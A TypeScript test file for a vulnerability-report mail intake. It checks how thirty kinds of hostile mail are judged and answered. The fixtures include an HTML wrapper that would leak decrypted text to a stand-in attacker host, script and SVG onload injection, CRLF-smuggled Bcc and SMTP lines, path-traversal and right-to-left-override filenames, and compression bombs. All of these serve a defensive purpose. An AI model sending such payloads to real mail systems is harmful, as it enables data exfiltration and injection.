import { execFileSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import {
  type HandlingContext,
  type KeptMessage,
  listCaseMails,
  listCases,
  type ReplayAnswer,
  readMessages,
  takeIn,
} from "../../src/cases/index.ts";
import { SamedayError } from "../../src/kernel/index.ts";
import { ALICE, type IntakeHouse, openIntakeHouse, US, waitingMail } from "./cases-intake-kit.ts";
import { encryptedPart, entity, filePart, type PartText, type Pgp, signedPart, textPart } from "./cases-mail-kit.ts";
import { type CasesWorld, SENT, startCasesWorld } from "./cases-world.ts";
import { armored, cutMessage, unprotected } from "./openpgp-packets.ts";

/** Thirty kinds of bad input, each with what becomes of it: first as it is judged, then what leaves the desk for it. */

const SECRET = "GEHEIM-30c0ffee";
const REPORT = `Überlauf: ${SECRET}\n`;
const ZOE = "Zoë Finder <zoe@uni.example>";
const EVE = "Eva <eva@boese.example>";

let world: CasesWorld;
let pgp: Pgp;
let keys: CasesWorld["keys"];
beforeAll(async () => {
  world = await startCasesWorld();
  ({ pgp, keys } = world);
  // The workers load their library with the first mail; what is measured below is the mails alone.
  await world.judged(mail(ZOE, encryptedPart(pgp.encrypt(entity(textPart("first")), [keys.role]))));
});
afterAll(() => world?.close());

const mail: CasesWorld["mail"] = (from, part, ...headers) => world.mail(from, part, ...headers);
const mixed = (...body: readonly PartText[]): PartText => ({ headers: ["Content-Type: multipart/mixed"], body });
const html = (body: string): PartText => ({ headers: ["Content-Type: text/html; charset=utf-8"], body });
const sealed = (part: PartText, by?: string): PartText =>
  encryptedPart(pgp.encrypt(entity(part), [keys.role], by === undefined ? {} : { by }));
const keyFile = (fingerprint: string): PartText =>
  filePart("key.asc", pgp.publicKey(fingerprint), "application/pgp-keys");
const binary = (text: string, to: string = keys.role): Buffer => pgp.encryptBinary(text, [to]);
/** The mail's file with a text in it exchanged, as somebody on its way would. */
function altered(path: string, from: string | RegExp, to: string): string {
  writeFileSync(path, readFileSync(path, "latin1").replace(from, to), "latin1");
  return path;
}

interface Row {
  readonly says: string;
  /** The mails of the line; the last is judged. */
  readonly mails: () => readonly string[];
  readonly becomes: ReplayAnswer["disposition"];
  readonly reply?: string;
  readonly flags?: readonly string[];
  readonly shows?: readonly string[];
  /** What a handler must not see, beside what no row may show. */
  readonly hides?: readonly string[];
  readonly attachments?: readonly string[];
}

const sessionKeyOf = (message: Buffer): Buffer => {
  const home = ["--homedir", world.gpgHome, "--batch", "--pinentry-mode", "loopback", "--passphrase", ""];
  const all = execFileSync(
    "gpg",
    [...home, "--status-fd", "1", "--show-session-key", "--output", "/dev/null", "--yes", "--decrypt"],
    {
      input: message,
      stdio: ["pipe", "pipe", "ignore"],
    },
  ).toString();
  return Buffer.from(/SESSION_KEY \d+:([0-9A-F]+)/.exec(all)?.[1] ?? "", "hex");
};

const held = { becomes: "hold_unreadable", hides: [SECRET] } as const;
const ROWS: readonly (readonly [number, Row])[] = [
  [
    1,
    {
      says: "HTML around a ciphertext that would carry it off",
      mails: () => [mail(EVE, mixed(html('<img src="https://boese.example/?'), sealed(textPart(REPORT)), html('">')))],
      ...{ becomes: "quarantine", reply: "manual", flags: ["mixed_encrypted_cleartext", "html_remote"] },
    },
  ],
  [
    2,
    {
      says: "old ciphertext, sent again by a stranger",
      mails: () => {
        const part = sealed(textPart(REPORT));
        return [mail(ZOE, part), mail(EVE, part)];
      },
      ...{ becomes: "quarantine", reply: "manual", flags: ["ciphertext_seen_before"] },
    },
  ],
  [
    3,
    {
      says: "quoted ciphertext",
      mails: () => [mail(ZOE, textPart(`So?\n\n${pgp.encrypt(REPORT, [keys.role]).replace(/^/gm, "> ")}`))],
      ...{ becomes: "new_case", flags: ["quoted_openpgp_block"], hides: [SECRET] },
    },
  ],
  [
    3,
    {
      says: "ciphertext in a forwarded mail",
      mails: () => {
        const inner = `From: a@b.example\nSubject: x\nMIME-Version: 1.0\n${entity(sealed(textPart(REPORT)))}`;
        return [mail(ZOE, mixed({ headers: ["Content-Type: message/rfc822"], body: inner }, textPart("Von gestern.")))];
      },
      ...{ becomes: "new_case", flags: ["encrypted_in_forward"], hides: [SECRET] },
    },
  ],
  [
    4,
    {
      says: "no integrity protection",
      mails: () => {
        const message = binary(REPORT);
        const old = unprotected(REPORT, sessionKeyOf(message));
        return [mail(ZOE, encryptedPart(armored(Buffer.concat([...cutMessage(message).forRecipients, old]))))];
      },
      ...{ ...held, reply: "ask_resend", flags: ["no_integrity_protection"] },
    },
  ],
  [
    4,
    {
      says: "a flipped bit",
      mails: () => {
        const message = Buffer.from(binary(REPORT));
        const at = message.length - 30;
        message[at] = (message[at] ?? 0) ^ 1;
        return [mail(ZOE, encryptedPart(armored(message)))];
      },
      ...{ ...held, reply: "ask_resend", flags: ["integrity_failure"] },
    },
  ],
  [
    4,
    {
      says: "cut off",
      mails: () => [mail(ZOE, textPart(pgp.encrypt(REPORT, [keys.role]).split("\n").slice(0, 5).join("\n")))],
      ...{ ...held, reply: "ask_resend", flags: ["malformed_openpgp"] },
    },
  ],
  [
    5,
    {
      says: "encrypted to somebody else",
      mails: () => [mail(ZOE, encryptedPart(pgp.encrypt(entity(textPart(REPORT)), [keys.stranger])))],
      ...{ ...held, reply: "ask_resend", flags: ["no_matching_key"] },
    },
  ],
  [
    6,
    {
      says: "two hundred recipients that hide",
      mails: () => {
        const hidden = pgp.encrypt(REPORT, [keys.stranger], { hidden: true }).replace(/-----[^\n]*\n|^=.*$/gm, "");
        const { forRecipients, rest } = cutMessage(Buffer.from(hidden, "base64"));
        const [one] = forRecipients;
        const many = Array.from({ length: 200 }, () => one ?? Buffer.alloc(0));
        return [mail(ZOE, encryptedPart(armored(Buffer.concat([...many, rest]))))];
      },
      ...{ ...held, flags: ["pkesk_limit"] },
    },
  ],
  [
    7,
    {
      says: "a bomb of compression",
      mails: () => [mail(ZOE, encryptedPart(pgp.encrypt("\0".repeat(60_000_000), [keys.role])))],
      ...{ ...held, reply: "manual", flags: ["decompression_limit"] },
    },
  ],
  [
    8,
    {
      says: "encrypted to a password",
      mails: () => [mail(ZOE, encryptedPart(pgp.withPassword(REPORT)))],
      ...{ ...held, reply: "ask_resend", flags: ["passphrase_encrypted"] },
    },
  ],
  [
    9,
    {
      says: "another key with the same user id",
      mails: () => [
        mail(ZOE, sealed(mixed(textPart(REPORT), keyFile(keys.zoe)), keys.zoe)),
        mail(ZOE, sealed(mixed(textPart(REPORT), keyFile(keys.otherZoe)), keys.otherZoe)),
      ],
      ...{ becomes: "new_case", reply: "manual", flags: ["key_conflict"] },
    },
  ],
  [
    10,
    {
      says: "the key of another person comes along",
      mails: () => [mail(ZOE, sealed(mixed(textPart(REPORT), keyFile(keys.elsewhere)), keys.elsewhere))],
      ...{ becomes: "new_case", reply: "lookup_then_ask", flags: ["attached_key_uid_mismatch"] },
    },
  ],
  [
    10,
    {
      says: "an expired key comes along",
      mails: () => [mail("Ex <ex@old.example>", sealed(mixed(textPart(REPORT), keyFile(keys.expired))))],
      ...{ becomes: "new_case", reply: "lookup_then_ask", flags: ["key_expired"] },
    },
  ],
  [
    10,
    {
      says: "a revoked key comes along",
      mails: () => [mail("Rita <rita@gone.example>", mixed(keyFile(keys.revoked), textPart("Text\n")))],
      ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["revoked_key"] },
    },
  ],
  [
    11,
    {
      says: "a secret key",
      mails: () => [mail(ZOE, textPart(`Hier:\n${pgp.secretKey(keys.zoe)}`))],
      ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["secret_key_received"] },
      hides: ["BEGIN PGP PRIVATE"],
    },
  ],
  [
    12,
    {
      says: "a signature over a part",
      mails: () => {
        const part = signedPart(mixed(textPart("Text\n"), keyFile(keys.zoe)), (data) => pgp.sign(data, keys.zoe));
        return [mail(ZOE, mixed(part, textPart("___\nListe")))];
      },
      ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["signature_covers_part_only"] },
    },
  ],
  [
    12,
    {
      says: "a text beside a ciphertext",
      mails: () => [mail(ZOE, mixed(sealed(textPart(REPORT)), textPart("Noch etwas")))],
      ...{ becomes: "new_case", reply: "manual", flags: ["mixed_encrypted_cleartext"], shows: [SECRET, "Noch etwas"] },
    },
  ],
  [
    13,
    {
      says: "a signed text that was altered",
      mails: () => {
        const part = signedPart(mixed(textPart("Version 1\n"), keyFile(keys.zoe)), (data) => pgp.sign(data, keys.zoe));
        return [altered(mail(ZOE, part), "Version 1", "Version 2")];
      },
      ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["bad_signature"], shows: ["Version 2"] },
    },
  ],
  [
    13,
    {
      says: "a signature that is made in the future",
      mails: () => {
        const sign = (data: string): string => pgp.sign(data, keys.zoe, { at: "20990101T000000" });
        return [mail(ZOE, signedPart(mixed(textPart("Bald\n"), keyFile(keys.zoe)), sign))];
      },
      ...{ becomes: "new_case", reply: "ask_for_key_or_clear", flags: ["signature_not_yet_valid"], shows: ["Bald"] },
    },
  ],
  [
    14,
    {
      says: "a staff address without its signature",
      mails: () => [mail("Mira <mira@projekt.example>", textPart("claim PRJ-2026-0042"), `In-Reply-To: ${SENT}`)],
      ...{ becomes: "quarantine", reply: "none", flags: ["staff_address_unauthenticated"] },
    },
  ],
  [
    15,
    {
      says: "a guessed case in the subject",
      mails: () => [mail(EVE, textPart("Wie steht es?"), "Subject: Re: [PRJ-2026-0042] ...")],
      ...{ becomes: "new_case", flags: ["unproven_thread_reference"], hides: ["zoe@uni.example"] },
    },
  ],
  [
    16,
    {
      says: "line ends in an encoded subject",
      mails: () => [mail(ZOE, textPart("x"), "Subject: =?utf-8?q?Fehler=0D=0ABcc:_a@b.example?=")],
      ...{ becomes: "new_case", flags: ["control_chars_in_subject"], hides: ["\nBcc:"] },
    },
  ],
  [
    17,
    {
      says: "two senders",
      mails: () => [mail(ZOE, textPart("x"), `From: ${EVE}`)],
      ...{ becomes: "quarantine", reply: "manual", flags: ["multiple_from"] },
    },
  ],
  [
    17,
    {
      says: "no sender",
      mails: () => [altered(mail(ZOE, textPart("x")), /^From: .*\r\n/m, "")],
      ...{ becomes: "quarantine", reply: "manual", flags: ["no_from"] },
    },
  ],
  [
    17,
    {
      says: "two thousand in Cc",
      mails: () => {
        const all = Array.from({ length: 2000 }, (_, n) => `a${n}@b.example`).join(",\r\n ");
        return [mail(ZOE, textPart("x"), `Cc: ${all}`)];
      },
      ...{ becomes: "new_case", flags: ["many_recipients"] },
    },
  ],
  [
    17,
    {
      says: "answers are asked to a public list",
      mails: () => [mail(ZOE, textPart("x"), "Reply-To: everybody@lists.example")],
      ...{ becomes: "new_case", flags: ["reply_to_differs"] },
    },
  ],
  [
    18,
    {
      says: "somebody is away",
      mails: () => [mail(ZOE, textPart("Bin im Urlaub"), "Auto-Submitted: auto-replied")],
      ...{ becomes: "log_only", reply: "none", flags: ["auto_submitted"] },
    },
  ],
  [
    18,
    {
      says: "a mailing list",
      mails: () => [mail(ZOE, textPart("Neues"), "Precedence: bulk", "List-Id: <neues.liste.example>")],
      ...{ becomes: "triage_noise", reply: "none", flags: ["bulk"] },
    },
  ],
  [
    18,
    {
      says: "a delivery report",
      mails: () => {
        const part = {
          headers: ["Content-Type: multipart/report; report-type=delivery-status"],
          body: [
            textPart("Es ging nicht."),
            { headers: ["Content-Type: message/delivery-status"], body: "Action: failed\n" },
            { headers: ["Content-Type: text/rfc822-headers"], body: `Message-ID: ${SENT}\n` },
          ],
        };
        return [mail("mailer-daemon@uni.example", part)];
      },
      ...{ becomes: "delivery_report", reply: "none", flags: ["dsn"] },
    },
  ],
  [
    21,
    {
      says: "300 levels of parts",
      mails: () => {
        let inner = textPart("x");
        for (let level = 0; level < 300; level += 1) inner = mixed(inner);
        return [mail(ZOE, inner)];
      },
      ...{ becomes: "quarantine", reply: "manual", flags: ["mime_depth_limit"] },
    },
  ],
  [
    21,
    {
      says: "10,000 parts",
      mails: () => [mail(ZOE, mixed(...Array.from({ length: 10_000 }, () => textPart("x"))))],
      ...{ becomes: "quarantine", reply: "manual", flags: ["mime_part_limit"] },
    },
  ],
  [
    21,
    {
      says: "a header of a megabyte",
      mails: () => [mail(ZOE, textPart("x"), `X-Long: ${"a".repeat(1_000_000)}`)],
      ...{ becomes: "reject", reply: "none", flags: ["header_limit"] },
    },
  ],
  [
    21,
    {
      says: "9,000 references and 3,000 parameters",
      mails: () => {
        const references = Array.from({ length: 2000 }, (_, n) => `<${n}@b.example>`).join("\r\n ");
        const parameters = Array.from({ length: 3000 }, (_, n) => `;\r\n p${n}=v`).join("");
        return [
          mail(ZOE, { headers: [`Content-Type: text/plain${parameters}`], body: "x" }, `References: ${references}`),
        ];
      },
      becomes: "new_case",
    },
  ],
  [
    22,
    {
      says: "archives and pieces of mails",
      mails: () => [
        mail(
          ZOE,
          mixed(
            textPart("Anbei."),
            filePart("bombe.zip", "PK\u0003\u0004 not opened", "application/zip"),
            filePart("winmail.dat", "x", "application/ms-tnef"),
            {
              headers: ['Content-Type: message/external-body; access-type=URL; URL="https://boese.example/x"'],
              body: "Content-Type: text/plain\n\n",
            },
          ),
        ),
      ],
      ...{ becomes: "new_case", flags: ["external_body_ignored"], attachments: ["bombe.zip", "winmail.dat"] },
    },
  ],
  [
    23,
    {
      says: "script, pictures, forms and a refresh",
      mails: () => [
        mail(
          ZOE,
          html(
            '<script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://boese.example"><svg onload=x()></svg><form action="https://boese.example"><input></form><img src="https://boese.example/p.png"><p>Bericht</p>',
          ),
        ),
      ],
      ...{ becomes: "new_case", flags: ["html_active_content", "html_remote"], shows: ["Bericht"] },
      hides: ["alert(1)", "<svg", "<form"],
    },
  ],
  [
    24,
    {
      says: "NUL and bare line ends",
      mails: () => [altered(mail(ZOE, textPart("A-B-C")), "A-B-C", "A\0B\rC\nMAIL FROM:<x@y.example>")],
      ...{ becomes: "new_case", flags: ["control_chars"], shows: ["␀"], hides: ["\0", "\r"] },
    },
  ],
  [
    25,
    {
      says: "names of files that lead elsewhere, turn around, or never end",
      mails: () => [
        mail(
          ZOE,
          mixed(
            textPart("Anbei."),
            filePart("../../../etc/cron.d/x", "a"),
            filePart("gpj\u202eexe.png", "b"),
            filePart("n".repeat(400), "c"),
          ),
        ),
      ],
      ...{ becomes: "new_case", flags: ["filename_sanitised"], hides: ["\u202e"] },
    },
  ],
  [
    29,
    {
      says: "a letter of a lawyer",
      mails: () => [mail(ZOE, textPart("Our law firm demands: cease and desist, subpoena, court order."))],
      ...{ becomes: "new_case", flags: ["route_legal_suggested"] },
    },
  ],
  [
    29,
    {
      says: "a question for support",
      mails: () => [mail(ZOE, textPart("How do I install it? My password does not work, please help me."))],
      ...{ becomes: "new_case", flags: ["route_support_suggested"] },
    },
  ],
];

describe("what comes in is judged", () => {
  test.each(ROWS.map(([number, row]) => ({ number, ...row })))("row $number: $says", async (row) => {
    const paths = row.mails();
    const begun = process.cpuUsage();
    const answer = await world.judged(...paths);
    const { user, system } = process.cpuUsage(begun);
    expect((user + system) / 1e6).toBeLessThan(3);
    expect(answer).toMatchObject({ disposition: row.becomes, ...(row.reply && { reply: row.reply }) });
    expect(answer.flags).toEqual(expect.arrayContaining([...(row.flags ?? [])]));
    for (const text of row.shows ?? []) expect(answer.shown).toContain(text);
    for (const text of row.hides ?? []) expect(answer.shown).not.toContain(text);
    for (const name of answer.attachments) expect(name).toMatch(/^[^/\\\p{C}]{1,255}$/u);
    if (row.attachments) expect([...answer.attachments].sort()).toEqual(row.attachments);
  });
});

describe("what leaves the desk for it", () => {
  /** More than the mails of an hour that are told one by one; 500 were tried, and differ in nothing but time. */
  const FLOOD = 40;
  let intake: IntakeHouse;
  let context: HandlingContext;
  let mails = 0;
  beforeAll(async () => {
    // The keys are made now; what is signed a little later is not signed in the future.
    const now = new Date(Date.now() + 120_000);
    intake = await openIntakeHouse({ now, intake: { answersPerDay: 1 } });
    ({ context } = intake);
  });
  afterAll(() => intake?.close());
  beforeEach(async () => {
    for (const table of ["intake_entry", "intake_answer", "case_reminder"] as const) {
      await context.vault.store.db.deleteFrom(table).execute();
    }
    await intake.house.clear();
    context = { ...context };
  });
  const nextId = (): string => {
    mails += 1;
    return `<b${mails}@reporter.example.net>`;
  };
  const clear = (text: string, ...headers: readonly string[]): Uint8Array =>
    intake.mail(textPart(text), [`Message-ID: ${nextId()}`, "Subject: a flaw", ...headers]);
  const take = async (message: Uint8Array, from = ALICE): Promise<string> =>
    (await takeIn(context, intake.arrival(message, { from }))).caseId;
  const keysOf = async (begins: string): Promise<readonly string[]> =>
    (await listCaseMails(context)).map(({ key }) => key).filter((key) => key.startsWith(begins));

  test("row 19: a flood of one sender is one answer, and a digest instead of a mail for each", async () => {
    for (let count = 0; count < FLOOD; count += 1) await take(clear(`Flaw ${count}.`, `From: ${ALICE}`));
    expect(await keysOf("ack ")).toHaveLength(1);
    const toPia = (await listCaseMails(context)).filter(({ key }) => key.includes(" pia "));
    expect(toPia.length).toBeLessThanOrEqual(21);
    expect(await listCases(context.vault.store.db)).toHaveLength(FLOOD);
  });

  test.each([
    ["row 20: a null sender", "", []],
    ["row 20: a forged sender", "victim@elsewhere.example", ["Authentication-Results: mx.acme.example; dmarc=fail"]],
    ["row 18: our own mail", US, [`From: ${US}`, "Auto-Submitted: auto-replied"]],
  ])("%s is not answered", async (_says, from, headers) => {
    await take(
      clear("x", ...(headers.some((line) => /^From:/.test(line)) ? [] : [`From: ${ALICE}`]), ...headers),
      from,
    );
    expect(await keysOf("ack ")).toEqual([]);
  });

  test("row 26: the same id with other contents is kept, the same again is not", async () => {
    const once = intake.mail(textPart("One."), [`From: ${ALICE}`, "Message-ID: <same@x.example>", "Subject: s"]);
    const other = intake.mail(textPart("Two."), [`From: ${ALICE}`, "Message-ID: <same@x.example>", "Subject: s"]);
    const first = await take(once);
    expect(await take(once)).toBe(first);
    const second = await take(other);
    const texts = await Promise.all(
      [...new Set([first, second])].map((id) => readMessages<KeptMessage>(context.vault, id, "pia")),
    );
    expect(texts.flat().filter(({ contents }) => contents.direction === "in")).toHaveLength(2);
  });

  test("rows 27 and 28: nothing that leaves names the report, outside or in its ids", async () => {
    const id = await take(intake.report("heap overflow in libfrobnicate", "critical in frobnicate", nextId()));
    const leaving = [await waitingMail(context, "ack"), await waitingMail(context, "new % pia")];
    for (const { text, messageId } of leaving) {
      expect(text).not.toMatch(/frobnicate|overflow|critical/i);
      expect(text).toMatch(new RegExp(`^Subject: \\[${id}\\]`, "m"));
      expect(messageId).toMatch(/[0-9a-z]{16}/i);
    }
    expect(leaving[1]?.text).not.toContain(ALICE);
    expect(leaving[0]?.messageId).not.toBe(leaving[1]?.messageId);
  });

  test("row 30: while the role key is away nothing is taken, and the same mail is a case afterwards", async () => {
    const message = intake.report("a flaw", "x", nextId());
    const opener = {
      ...context.opener,
      open: () => Promise.reject(new SamedayError("ROLE_KEY_UNAVAILABLE", "The role key is locked.")),
    };
    await expect(takeIn({ ...context, opener }, intake.arrival(message))).rejects.toMatchObject({
      code: "ROLE_KEY_UNAVAILABLE",
    });
    expect(await listCases(context.vault.store.db)).toEqual([]);
    expect(await take(message)).toMatch(/^SEC-\d{4}-0001$/);
  });
});

test("the table has every row: 23 in words and 25 in headers have tests of pages, 30 one of a whole desk", () => {
  const here = new Set([...ROWS.map(([row]) => row), 18, 19, 20, 26, 27, 28, 30]);
  expect([...here].sort((a, b) => a - b)).toEqual(Array.from({ length: 30 }, (_, n) => n + 1));
});
